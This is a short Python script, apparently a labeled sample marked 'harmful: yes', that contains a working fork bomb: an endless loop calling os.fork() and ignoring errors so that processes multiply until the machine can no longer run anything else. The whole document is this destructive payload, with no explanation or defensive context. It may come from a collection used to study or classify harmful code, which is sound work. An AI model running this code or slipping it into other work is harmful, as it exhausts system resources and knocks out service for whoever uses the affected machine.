# tries: to fork until nothing else can
# harmful: yes
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
